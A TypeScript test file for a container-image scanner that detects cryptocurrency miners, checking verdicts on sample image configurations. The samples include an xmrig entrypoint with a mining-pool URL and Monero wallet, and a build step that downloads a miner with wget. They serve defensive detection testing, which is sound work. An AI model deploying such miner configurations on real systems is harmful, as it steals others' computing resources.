import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { loadSignatures } from '../../signatures/load-signatures.ts';
import type { Signatures } from '../../signatures/signatures.ts';
import type { ImageConfig } from '../image-source.ts';
import { decideVerdict } from '../verdict.ts';
import { analyzeImageConfig } from './image-config.ts';
import { imageRepository } from './image-name.ts';

let signatures: Signatures;
before(async () => {
  signatures = await loadSignatures();
});

const wallet = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

describe('image config analysis', () => {
  it('reduces image names to the repository path', () => {
    assert.equal(imageRepository('kannix/monero-miner'), 'kannix/monero-miner');
    assert.equal(imageRepository('docker.io/kannix/monero-miner:latest'), 'kannix/monero-miner');
    assert.equal(imageRepository('registry.example:5000/Kannix/Monero-Miner:v1@sha256:abcd'), 'kannix/monero-miner');
    assert.equal(imageRepository('localhost/library/redis:7'), 'redis');
    assert.equal(imageRepository('library/redis'), 'redis');
    assert.equal(imageRepository('127.0.0.1:5000/a/b'), 'a/b');
  });

  it('identifies an image on the known-miner list under any registry, tag or digest', () => {
    for (const name of ['kannix/monero-miner', 'docker.io/kannix/monero-miner:latest', 'mirror.local/metal3d/xmrig@sha256:00ff']) {
      const signals = analyzeImageConfig({ names: [name], config: {} }, signatures);
      assert.equal(signals[0]?.rule, 'image-config.known-miner-image', name);
      assert.equal(decideVerdict(signals).verdict, 'malicious');
    }
  });

  it('reports an entrypoint that starts a miner with a pool URL and wallet as malicious', () => {
    const config: ImageConfig = {
      config: {
        Entrypoint: ['/usr/local/bin/xmrig'],
        Cmd: ['-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', wallet, '--donate-level', '1'],
        Env: ['PATH=/usr/bin', `WALLET=${wallet}`],
      },
    };
    const signals = analyzeImageConfig({ names: ['example/app:1'], config }, signatures);
    const rules = signals.map((s) => s.rule);
    for (const rule of ['image-config.runs-miner', 'image-config.stratum-url', 'image-config.monero-wallet', 'image-config.miner-option', 'image-config.mining-pool-host']) {
      assert.ok(rules.includes(rule), rule);
    }
    const wallets = signals.find((s) => s.rule === 'image-config.monero-wallet');
    assert.match(wallets?.summary ?? '', /config\/Entrypoint\+Cmd contains Monero wallet address .*\(and 1 more places\)/);
    assert.equal(decideVerdict(signals).verdict, 'malicious');
  });

  it('reports build history that downloads a miner, and labels and env with pool endpoints', () => {
    const config: ImageConfig = {
      config: { Labels: { 'pool': 'xmr.example.net:14444' } },
      history: [{ created_by: '/bin/sh -c wget https://example.invalid/xmrig-6.21.0-linux-static-x64.tar.gz && tar xf xmrig*.tar.gz' }],
    };
    const signals = analyzeImageConfig({ names: [], config }, signatures);
    assert.deepEqual(
      signals.map((s) => [s.rule, s.strength, s.location?.path]),
      [
        ['image-config.stratum-port', 'weak', 'config/Labels/pool'],
        ['image-config.runs-miner', 'strong', 'history[0].created_by'],
      ],
    );
  });

  it('leaves an ordinary image clean', () => {
    const config: ImageConfig = {
      config: {
        Entrypoint: ['docker-entrypoint.sh'],
        Cmd: ['postgres'],
        Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'PG_MAJOR=16', 'PGDATA=/var/lib/postgresql/data'],
        Labels: { maintainer: 'someone@example.com' },
        ExposedPorts: { '5432/tcp': {} },
      },
      history: [{ created_by: '/bin/sh -c apt-get update && apt-get install -y postgresql-16' }],
    };
    const signals = analyzeImageConfig({ names: ['docker.io/library/postgres:16'], config }, signatures);
    assert.deepEqual(signals, []);
    assert.equal(decideVerdict(signals).verdict, 'clean');
  });

  it('reports an image whose name names a miner program', () => {
    const signals = analyzeImageConfig({ names: ['ghcr.io/someone/xmrig-docker:latest'], config: {} }, signatures);
    assert.deepEqual(signals.map((s) => [s.rule, s.strength]), [['image-config.miner-named-image', 'strong']]);
  });
});
